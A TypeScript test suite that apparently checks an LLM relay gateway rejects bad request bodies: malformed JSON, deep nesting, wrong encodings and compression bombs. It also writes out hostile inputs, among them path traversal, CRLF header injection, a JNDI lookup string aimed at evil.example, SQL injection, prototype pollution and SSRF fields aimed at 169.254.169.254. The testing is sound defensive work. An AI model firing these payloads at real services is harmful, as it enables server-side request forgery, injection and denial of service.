// Proves: a body that is wrong, deep, wide, packed or larger than it says is refused as the caller's fault, in time, by
// every route of the relay; it is no error of ours, changes no object of the program, and fetches nothing.
import { setTimeout as sleep } from 'node:timers/promises';
import { brotliCompressSync, constants, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { GOOD, type Style, STYLES } from '../../call.ts';
import { type HostileArea, type HostileCase, must } from '../area.ts';
import type { HostileStack } from '../hostile-stack.ts';
import type { Got } from '../send.ts';

const DEEP = 100_000;
const MIB = 1024 * 1024;
const MAX_TURNS = 10;

interface Attack {
  readonly body: string | Buffer;
  readonly headers?: Readonly<Record<string, string>>;
  /** What may come of it besides 400, 404, 413, 415 and 422. */
  readonly also?: readonly number[];
}

/** The fields of a good request with some more, or others. */
const changed = (style: Style, change: object): string => JSON.stringify({ ...GOOD[style].body, ...change });
const textOf = (style: Style): string => JSON.stringify(GOOD[style].body);
const withRaw = (style: Style, fields: string): string => `${textOf(style).slice(0, -1)},${fields}}`;

/** The field that holds what is asked. */
const ASKED: Readonly<Record<Style, string>> = {
  chat: 'messages',
  responses: 'input',
  messages: 'messages',
  gemini: 'contents',
};

const REFUSED: Readonly<Record<string, (style: Style) => Attack>> = {
  nothing: () => ({ body: '' }),
  'a null': () => ({ body: 'null' }),
  'a list': () => ({ body: '[]' }),
  'a number': () => ({ body: '1' }),
  'a text': () => ({ body: '"text"' }),
  'half of it': (style) => ({ body: textOf(style).slice(0, -5) }),
  'two of them': (style) => ({ body: textOf(style) + textOf(style) }),
  'a comma too many': (style) => ({ body: withRaw(style, '') }),
  'not a number': (style) => ({ body: withRaw(style, '"max_tokens":NaN') }),
  'no UTF-8': (style) => ({
    body: Buffer.concat([
      Buffer.from('{"a":"'),
      Buffer.from([0xff, 0xfe, 0xc0, 0xaf]),
      Buffer.from(`",${textOf(style).slice(1)}`),
    ]),
  }),
  'the model in letters of another case': (style) => ({ body: withRaw(style, '"Model":"hostile"') }),
  'lists in lists': (style) => ({ body: withRaw(style, `"zzz":${'['.repeat(DEEP)}${']'.repeat(DEEP)}`) }),
  'objects in objects': (style) => ({
    body: withRaw(style, `"zzz":${'{"a":'.repeat(DEEP)}1${'}'.repeat(DEEP)}`),
  }),
  'lists without an end': (style) => ({ body: withRaw(style, `"zzz":${'['.repeat(DEEP)}`) }),
  'what is asked is missing': (style) => ({ body: changed(style, { [ASKED[style]]: undefined }) }),
  'what is asked is a number': (style) => ({ body: changed(style, { [ASKED[style]]: 7 }) }),
  'what is asked is empty': (style) => ({
    body: changed(style, { [ASKED[style]]: [] }),
    also: style === 'responses' ? [200] : [],
  }),
  'what is asked is a null': (style) => ({ body: changed(style, { [ASKED[style]]: null }) }),
  'a type that is no JSON': (style) => ({
    body: textOf(style),
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    also: [200],
  }),
  'gzip that is none': (style) => ({ body: textOf(style), headers: { 'content-encoding': 'gzip' } }),
  'a packing that nobody knows': (style) => ({
    body: textOf(style),
    headers: { 'content-encoding': 'lzma' },
  }),
  'gzip that breaks off': (style) => ({
    body: gzipSync(textOf(style)).subarray(0, -6),
    headers: { 'content-encoding': 'gzip' },
  }),
  'gzip in gzip': (style) => ({
    body: gzipSync(gzipSync(textOf(style))),
    headers: { 'content-encoding': 'gzip, gzip' },
    also: [200],
  }),
};

/** Models that are none, or would lead elsewhere if they were taken for a path. */
const MODELS = [
  '../../../etc/passwd',
  '..%2f..%2fadmin',
  'http://evil.example/v1',
  'sim-chat\u0000',
  'sim-chat\r\nx-injected: yes',
  '__proto__',
  'constructor',
  'toString',
  '${jndi:ldap://evil.example/a}',
  "sim-chat' OR 1=1 --",
  ' sim-chat',
  'SIM-CHAT',
  'sim-chat ',
  'x'.repeat(100_000),
];

/** Fields by which other relays were led to other places (CVE-2024-6587), or to other objects. */
const IGNORED: Readonly<Record<string, object>> = {
  api_base: { api_base: 'http://169.254.169.254/' },
  base_url: { base_url: 'http://127.0.0.1:1/' },
  api_key: { api_key: 'sk-other' },
  custom_llm_provider: { custom_llm_provider: 'openai', api_base: 'http://127.0.0.1:1/' },
  __proto__: JSON.parse('{"__proto__":{"polluted":"yes"}}') as object,
  'constructor.prototype': { constructor: { prototype: { polluted: 'yes' } } },
};

const BOMBS: Readonly<Record<string, (bytes: Buffer) => Buffer>> = {
  gzip: gzipSync,
  deflate: deflateSync,
  br: (bytes) => brotliCompressSync(bytes, { params: { [constants.BROTLI_PARAM_QUALITY]: 4 } }),
  zstd: zstdCompressSync,
};

export const bodies: HostileArea = {
  name: 'callers/bodies',
  proves: 'no body is an error of ours, stops the gateway, or changes anything but the request',
  cases(at) {
    const relay = async (style: Style, { body, headers = {} }: Attack): Promise<Got> => {
      for (let turn = 0; ; turn += 1) {
        const got = await at.send(GOOD[style].path, {
          body,
          method: 'POST',
          headers: { authorization: `Bearer ${at.key.key}`, 'content-type': 'application/json', ...headers },
        });
        // On a busy machine Redis may be too late to say what is left: that is asked again, as it says.
        if (got.status !== 503 || turn === MAX_TURNS) return got;
        await sleep(200);
      }
    };
    const refused = (style: Style, name: string, attack: Attack): HostileCase => ({
      name: `${style}: ${name}`,
      async run() {
        const { status, text } = await relay(style, attack);
        const allowed = [400, 404, 413, 415, 422, ...(attack.also ?? [])];
        must(allowed.includes(status), () => `${status} ${text.slice(0, 200)}`);
        must(!/\bat \/|node_modules|\.js:\d+/.test(text), () => `it shows our code: ${text.slice(0, 300)}`);
      },
    });
    return [
      ...STYLES.flatMap((style) =>
        Object.entries(REFUSED).map(([name, make]) => refused(style, name, make(style))),
      ),
      ...MODELS.map((model, n) =>
        refused('chat', `model ${n} (${model.slice(0, 20)})`, { body: changed('chat', { model }) }),
      ),
      ...Object.entries(BOMBS).map(([coding, pack]) =>
        refused('chat', `a bomb of ${coding}`, {
          body: pack(Buffer.alloc(24 * MIB, ' ')),
          headers: { 'content-encoding': coding },
        }),
      ),
      ...Object.entries(IGNORED).map(([name, fields]) => leadsNowhere(at, relay, name, fields)),
    ];
  },
};

/** The request is answered by the simulator or refused, never by another place. */
const leadsNowhere = (
  at: HostileStack,
  relay: (style: Style, attack: Attack) => Promise<Got>,
  name: string,
  fields: object,
): HostileCase => ({
  name: `chat: ${name}`,
  async run() {
    const body = `${textOf('chat').slice(0, -1)},${JSON.stringify(fields).slice(1)}`;
    const { status, text } = await relay('chat', { body });
    must(
      status === 400 || (status === 200 && text.includes('Echo')),
      () => `${status} ${text.slice(0, 200)}`,
    );
    const after = await at.send('/api/status');
    must(!after.text.includes('polluted'), () => 'an object of the program was changed');
  },
});
